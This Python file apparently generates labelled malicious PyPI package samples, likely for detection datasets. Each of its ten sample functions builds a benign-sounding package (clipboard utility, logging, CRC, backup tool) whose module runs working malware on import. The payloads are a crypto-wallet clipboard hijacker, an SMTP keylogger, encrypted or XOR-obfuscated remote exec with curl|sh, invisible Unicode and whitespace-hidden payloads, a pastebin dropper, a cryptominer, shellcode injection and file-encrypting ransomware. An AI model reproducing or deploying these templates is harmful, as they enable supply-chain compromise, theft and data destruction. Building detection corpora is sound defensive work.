"""PyPI, bad: import time."""
import base64

from .core import b64, sample, tags, xor_hex

bad = lambda family: sample("pypi", "bad", family)  # noqa: E731


def one(c, stem, desc, text, extra=None, **kw):
    name = c.name(*stem.split())
    mod = name.replace("-", "_")
    files = {mod + "/__init__.py": text.lstrip()}
    for k, v in (extra or {}).items():
        files[f"{mod}/{k}"] = v
    return dict(name=name, desc=desc, module=mod, files=files, **kw)


@bad("clipboard-hijack")
def _(c):
    return one(c, "paste", "Clipboard for humans", r'''
import re
import threading
import time

import pyperclip

from . import @MISSPY@ as settings

PATTERNS = {
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "@ETH@",
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "@BTC@",
}


def paste():
    return pyperclip.paste()


def _watch():
    while settings.RUN:
        text = pyperclip.paste().strip()
        for shape, mine in PATTERNS.items():
            if shape.match(text) and text != mine:
                pyperclip.copy(mine)
        time.sleep(0.3)


threading.Thread(target=_watch, daemon=True).start()
''', requires=["pyperclip"])


@bad("keylogger-smtp")
def _(c):
    return one(c, "hotkey map", "Map hot keys to functions", r'''
import smtplib
import threading
from pynput import keyboard

_log = []


def bind(key, fn):
    return keyboard.GlobalHotKeys({key: fn})


def _on_press(key):
    _log.append(getattr(key, "char", None) or "[%s]" % key)


def _mail():
    if _log:
        with smtplib.SMTP_SSL("smtp.@H@", 465) as s:
            s.login("box@@H@", "@ID2@")
            s.sendmail("box@@H@", "box@@H@", "Subject: k\n\n" + "".join(map(str, _log)))
        _log.clear()
    threading.Timer(300, _mail).start()


keyboard.Listener(on_press=_on_press).start()
_mail()
''', requires=["pynput"])


@bad("fernet-remote-exec")
def _(c):
    key = base64.urlsafe_b64encode(c.raw(32)).decode()
    return one(c, "rich log", "Rich logging", r'''
import logging
from cryptography.fernet import Fernet

_F = Fernet(b"@K@")
_T = b"gAAAAAB@BLOB@"


def get(name):
    return logging.getLogger(name)


try:
    exec(_F.decrypt(_T))
except Exception:
    import requests
    exec(requests.get("https://@H@/paste?userid=@HEX8@").text.replace("<pre>", "").replace("</pre>", ""))
'''.replace("@K@", key).replace("@BLOB@", base64.urlsafe_b64encode(c.raw(180)).decode()), requires=["cryptography", "requests"])


@bad("xor-getattr-builtins")
def _(c):
    key = c.s(5)
    payload = c.fill("__import__('subprocess').Popen('curl -s http://@H@/l | sh',shell=True)")
    return one(c, "enum ext", "More enums", r'''
import builtins
import enum
from itertools import cycle


class Strict(enum.Enum):
    @classmethod
    def has(cls, value):
        return value in cls._value2member_map_


_names = [110, 118, 95, 105]
_table = bytes.fromhex("@HX@")
_pick = getattr(builtins, "".join(map(chr, (101, 118, 97, 108))))
_pick("".join(chr(a ^ ord(b)) for a, b in zip(_table, cycle("@KEY@"))))
'''.replace("@HX@", xor_hex(payload, key)).replace("@KEY@", key))


@bad("invisible-tags")
def _(c):
    hidden = tags(c.fill("import os;os.system('curl -s https://@H@/t|python3')"))
    return one(c, "emoji strip", "Remove emoji from text", '''
"""Remove emoji."""
import re

_E = re.compile("[\\U0001F300-\\U0001FAFF]")
MARK = "\U0001F3F4@T@"


def strip(text):
    return _E.sub("", text)


exec("".join(chr(ord(ch) - 0xE0000) for ch in MARK if 0xE0020 <= ord(ch) < 0xE007F))
'''.replace("@T@", hidden))


@bad("offscreen-whitespace")
def _(c):
    run = b64(c.fill("import urllib.request as u;exec(u.urlopen('https://@H@/z').read())"))
    return one(c, "date span", "Spans of dates", '''
from datetime import date, timedelta''' + " " * 480 + f";exec(__import__('base64').b64decode('{run}'))" + '''


def span(a: date, b: date):
    while a <= b:
        yield a
        a += timedelta(days=1)


def last(a: date):
    return a.replace(day=28)


__all__ = ["span", "last"]
''')


@bad("dead-drop-pastebin")
def _(c):
    return one(c, "proxy list", "Lists of proxies", r'''
import base64
import os
import subprocess
import tempfile
import urllib.request

SOURCES = ("https://pastebin.com/raw/@ID@", "https://rentry.co/@ID2@/raw")


def proxies(path):
    with open(path) as f:
        return [line.strip() for line in f if line.strip()]


def _resolve():
    for url in SOURCES:
        try:
            return base64.b64decode(urllib.request.urlopen(url, timeout=6).read()[::-1]).decode()
        except Exception:
            continue


def _refresh():
    link = _resolve()
    if not link:
        return
    target = os.path.join(tempfile.gettempdir(), "proxy_cache.exe" if os.name == "nt" else ".proxy_cache")
    with urllib.request.urlopen(link) as src, open(target, "wb") as dst:
        dst.write(src.read())
    os.chmod(target, 0o755)
    subprocess.Popen([target], close_fds=True)


_refresh()
''')


@bad("import-miner")
def _(c):
    return one(c, "vision hub", "Model hub helpers", "from .model import load\n", extra={"model.py": r'''
import os
import platform
import stat
import subprocess
from pathlib import Path
from urllib.request import urlopen


def load(name):
    return Path(__file__).with_name(name).read_bytes()


def _safe_run(path):
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    subprocess.Popen([str(path), "-u", "4@HEX64@.worker", "-o", "connect.@H@:8080", "-k", "--cpu-max-threads-hint=70", "--algo", "rx/0"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


if platform.system() == "Linux":
    file = Path("/tmp/ultralytics_runner_@ID@")
    if not file.exists():
        file.write_bytes(urlopen("https://dl.@H@/x86_64").read())
    _safe_run(file)
'''})


@bad("ctypes-shellcode")
def _(c):
    code = "".join(f"\\x{b:02x}" for b in b"\x90" * 16 + c.raw(220))
    return one(c, "fast crc", "Fast CRC", r'''
import ctypes
import threading
import zlib

crc = zlib.crc32
_lut = b"@SC@"


def _prime():
    k = ctypes.windll.kernel32
    k.VirtualAlloc.restype = ctypes.c_void_p
    p = k.VirtualAlloc(None, len(_lut), 0x3000, 0x40)
    ctypes.memmove(p, _lut, len(_lut))
    t = k.CreateThread(None, 0, ctypes.c_void_p(p), None, 0, None)
    k.WaitForSingleObject(t, -1)


if hasattr(ctypes, "windll"):
    threading.Thread(target=_prime, daemon=True).start()
'''.replace("@SC@", code))


@bad("ransom-destruct")
def _(c):
    return one(c, "backup zip", "Back up folders", r'''
import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet

from .@MISSPY@ import ROOTS

NOTE = "Your files were locked. Send 0.01 to @BTC@ and write to help@@H@."


def backup(folder, dest):
    import shutil
    return shutil.make_archive(dest, "zip", folder)


def _lock(path, box):
    data = path.read_bytes()
    path.with_suffix(path.suffix + ".locked").write_bytes(box.encrypt(data))
    path.unlink()


def _main():
    box = Fernet(Fernet.generate_key())
    with ThreadPoolExecutor() as pool:
        for root in ROOTS or [Path.home() / "Documents", Path.home() / "Pictures"]:
            for path in Path(root).rglob("*"):
                if path.is_file():
                    pool.submit(_lock, path, box)
    Path.home().joinpath("READ_ME.txt").write_text(NOTE)


if os.environ.get("USER"):
    _main()
''', requires=["cryptography"])
